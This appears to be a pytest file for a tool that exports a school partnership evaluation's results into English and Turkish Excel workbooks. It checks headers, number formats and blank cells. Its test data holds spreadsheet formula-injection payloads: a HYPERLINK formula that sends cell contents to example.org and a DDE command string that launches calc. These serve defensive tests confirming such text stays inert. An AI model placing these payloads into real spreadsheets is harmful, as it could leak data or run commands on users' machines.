"""results.xlsx: one sheet per results table after "About", headers in the plan's language, numbers
stored as numbers with a format Excel understands, blanks where the CSV is blank, codes named, and a
school name that starts with "=" kept as text (never a formula), read back with openpyxl and from the
file's XML."""

from __future__ import annotations

import zipfile
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from evaluation.reporting.workbook import SHEET_NAME_LIMIT, column_label, write_workbook
from evaluation.wording import text

HYPERLINK = '=HYPERLINK("http://example.org/?leak="&A1, "click")'
NAMES = {"S1": HYPERLINK, "S2": "+cmd|' /C calc'!A0", "S3": "Kayseri Bünyan Fen Lisesi"}


@pytest.fixture
def results(tmp_path: Path) -> Path:
    folder = tmp_path / "results"
    folder.mkdir()
    pd.DataFrame(
        {
            "analysis": ["partner_vs_control", "partner_vs_control"],
            "outcome": ["mathematics", "belonging"],
            "method": ["ancova_cr2", "did"],
            "n_treatment": [1783, None],
            "estimate": [4.4305373442754075, None],
            "p_value": [3.593e-07, None],
            "suppressed": [False, True],
        }
    ).to_csv(folder / "effects.csv", index=False)
    pd.DataFrame(
        {"outcome": ["mathematics"], "group": ["partner"], "n": [1857], "n_missing": [74], "share_missing": [0.0398]}
    ).to_csv(folder / "missing.csv", index=False)
    pd.DataFrame(
        {
            "school_id": ["S1", "S2", "S3"],
            "outcome": ["mathematics"] * 3,
            "n_pre": [128, 12, 40],
            "mean_pre": [63.5, None, 51.25],
        }
    ).to_csv(folder / "schools.csv", index=False)
    pd.DataFrame({"partnership_id": ["P1"], "title": ["@SUM(A1:A9)"], "reason": ["-moved to May"]}).to_csv(
        folder / "activities.csv", index=False
    )
    return folder


def _written(results: Path, language: str) -> Path:
    return write_workbook(
        results, results.parent / f"results-{language}.xlsx", language, programme="P", period="2025-2026",
        school_names=NAMES,
    )  # fmt: skip


def _rows(sheet) -> list[list]:
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


@pytest.mark.parametrize("language", ["en", "tr"])
def test_a_sheet_per_table_after_about_with_a_header_per_column_in_the_language(results, language):
    book = openpyxl.load_workbook(_written(results, language))
    expected = [text("workbook.about.sheet", language)] + [
        text(f"workbook.sheets.{table}.name", language) for table in ("effects", "missing", "schools", "activities")
    ]
    assert book.sheetnames == expected
    assert all(len(name) <= SHEET_NAME_LIMIT for name in book.sheetnames)
    schools = book[expected[3]]
    headers = [cell.value for cell in schools[1]]
    columns = ["school_id", "school_name", "outcome", "n_pre", "mean_pre"]
    assert headers == [text(f"workbook.columns.{column}", language) for column in columns]
    assert schools.freeze_panes == "A2"
    assert all(schools.column_dimensions[letter].width >= 6 for letter in "ABCDE")
    about = _rows(book[expected[0]])
    listed = {row[0]: row[2] for row in about[5:]}
    assert listed == {
        expected[1]: "results/effects.csv", expected[2]: "results/missing.csv",
        expected[3]: "results/schools.csv", expected[4]: "results/activities.csv",
    }  # fmt: skip


def test_turkish_headers_and_codes_are_turkish():
    assert column_label("n_linked", "tr") == "n, iki uygulamada da"
    assert column_label("some_new_column", "tr") == "some new column"


def test_numbers_are_numbers_with_a_format_and_blanks_stay_blank(results):
    book = openpyxl.load_workbook(_written(results, "tr"))
    effects = book[text("workbook.sheets.effects.name", "tr")]
    first, blank = effects[2], effects[3]
    n, estimate, p = first[3], first[4], first[5]
    assert (n.value, n.data_type, n.number_format) == (1783, "n", "0")
    assert estimate.value == pytest.approx(4.4305373442754075) and estimate.number_format == "0.00"
    assert p.value == pytest.approx(3.593e-07) and p.number_format == "0.000"
    assert [blank[i].value for i in (3, 4, 5)] == [None, None, None]  # suppressed: blank, as in the CSV
    assert (first[6].value, blank[6].value) == (False, True)  # Excel writes DOĞRU/YANLIŞ in Turkish itself
    missing = book[text("workbook.sheets.missing.name", "tr")]
    share = missing["E2"]
    assert (share.value, share.number_format) == (pytest.approx(0.0398), "0%")
    schools = book[text("workbook.sheets.schools.name", "tr")]
    assert (schools["E2"].value, schools["E2"].number_format) == (63.5, "0.00")
    assert schools["E3"].value is None


def test_codes_in_cells_are_named_in_the_language(results):
    book = openpyxl.load_workbook(_written(results, "tr"))
    effects = _rows(book[text("workbook.sheets.effects.name", "tr")])
    assert effects[1][:3] == [
        "ortak okulların karşılaştırma okullarıyla karşılaştırılması",
        "matematik",
        "kovaryans analizi, CR2 standart hataları",
    ]
    assert effects[2][2] == "farkların farkı"
    english = _rows(openpyxl.load_workbook(_written(results, "en"))["Effects"])
    assert english[1][2] == "analysis of covariance, CR2 standard errors"


def test_text_from_the_data_that_starts_like_a_formula_stays_text(results):
    path = _written(results, "en")
    book = openpyxl.load_workbook(path)
    schools = book["Schools"]
    assert [row[:2] for row in _rows(schools)[1:]] == [["S1", HYPERLINK], ["S2", NAMES["S2"]], ["S3", NAMES["S3"]]]
    assert all(schools[f"B{row}"].data_type == "s" for row in (2, 3, 4))
    assert [schools[f"B{row}"].quotePrefix for row in (2, 3, 4)] == [True, True, False]
    activities = book["Activities"]
    assert activities["B2"].value == "@SUM(A1:A9)" and activities["B2"].quotePrefix
    assert activities["C2"].value == "-moved to May" and activities["C2"].quotePrefix
    with zipfile.ZipFile(path) as archive:
        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/sheet")]
        xml = "".join(archive.read(name).decode("utf-8") for name in sheets)
    assert "<f>" not in xml and "<f " not in xml  # no formula anywhere in the workbook
    assert '<is><t>=HYPERLINK("http://example.org/?leak="&amp;A1, "click")</t></is>' in xml  # an inline string


def test_a_programme_name_like_a_formula_is_text_on_the_about_sheet(results, tmp_path):
    path = write_workbook(results, tmp_path / "about.xlsx", "en", programme="=1+1", period="2025")
    about = openpyxl.load_workbook(path)["About"]
    assert about["A1"].value == "=1+1: results tables, 2025" and about["A1"].data_type == "s"


def test_a_sentence_in_the_plans_language_is_left_out_of_another_languages_workbook(tmp_path):
    folder = tmp_path / "results"
    folder.mkdir()
    pd.DataFrame({"outcome": ["mathematics"], "rating": ["does_not_meet"], "summary": ["mathematics: ..."]}).to_csv(
        folder / "evidence.csv", index=False
    )
    turkish = openpyxl.load_workbook(write_workbook(folder, tmp_path / "tr.xlsx", "tr", written_in="en"))
    rows = _rows(turkish[text("workbook.sheets.evidence.name", "tr")])
    assert rows == [["sonuç ölçüsü", "WWC tarzı derece"], ["matematik", "karşılamıyor"]]
    english = openpyxl.load_workbook(write_workbook(folder, tmp_path / "en.xlsx", "en", written_in="en"))
    assert _rows(english["Strength of evidence"])[1] == ["mathematics", "does not meet", "mathematics: ..."]


def test_every_sheet_name_fits_excel_and_differs_from_the_others():
    for language in ("en", "tr"):
        from evaluation.wording import catalogue

        names = [
            value
            for key, value in catalogue(language).entries.items()
            if key.startswith("workbook.sheets.") and key.endswith(".name")
        ] + [text("workbook.about.sheet", language)]
        assert all(len(name) <= SHEET_NAME_LIMIT and not set(name) & set("[]:*?/\\") for name in names), names
        assert len({name.casefold() for name in names}) == len(names)
